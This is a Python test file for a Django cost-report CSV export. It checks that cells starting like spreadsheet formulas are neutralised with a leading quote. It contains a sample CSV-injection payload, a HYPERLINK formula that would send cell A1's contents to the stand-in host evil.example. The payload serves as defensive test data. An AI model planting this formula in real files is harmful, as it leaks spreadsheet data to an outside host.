"""The cost export (CSV) is opened in spreadsheets: a text cell that starts like a formula
(``=``, ``+``, ``-``, ``@``, tab, carriage return) must reach the sheet as text, never run
(CSV injection). User ids come from API callers, so they are attacker-controlled."""

from __future__ import annotations

import csv
import io

from django.contrib.auth import get_user_model
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from harness.console.costs import CSV_COLUMNS, FORMULA_LEADS, cost_csv
from tests.harness.test_cost_reports import ask

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click, ""here""")'


def parsed(rows: list[dict]) -> list[list[str]]:
    body = cost_csv(rows, "costs.csv").content.decode()
    return list(csv.reader(io.StringIO(body)))[1:]


def a_row(text: str) -> dict:
    return {
        "day": None,
        "tenant": "acme",
        "agent": text,
        "model": text,
        "user": text,
        "runs": 1,
        "prompt_tokens": 2,
        "completion_tokens": 3,
        "total_tokens": 5,
        "cost_usd": "-0.5",  # numbers are written as they are: a sheet reads them as numbers
        "unpriced_calls": 0,
    }


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=40))
def test_no_text_cell_starts_like_a_formula_and_none_loses_a_character(text):
    text = text.replace("\x00", "")  # csv cannot write NUL

    (cells,) = parsed([a_row(text)])

    for cell in cells[2:5]:  # agent, model, user
        assert not cell.startswith(FORMULA_LEADS)
        assert cell in (text, f"'{text}")
    assert cells[2] == (f"'{text}" if text.startswith(FORMULA_LEADS) else text)


@given(lead=st.sampled_from(FORMULA_LEADS), rest=st.text(max_size=20))
def test_each_formula_lead_is_neutralised(lead, rest):
    (cells,) = parsed([a_row(lead + rest.replace("\x00", ""))])

    assert cells[4] == f"'{lead}{rest.replace(chr(0), '')}"


def test_a_user_id_written_as_a_formula_with_commas_and_quotes_is_exported_as_text(acme):
    ask(acme, FORMULA)
    admin = Client()
    admin.force_login(get_user_model().objects.get(username="admin"))

    response = admin.get("/admin/harness/costreport/export.csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["user"] for row in rows] == [f"'{FORMULA}"]
    assert list(rows[0])[: len(CSV_COLUMNS)] == CSV_COLUMNS
    assert float(rows[0]["cost_usd"]) > 0
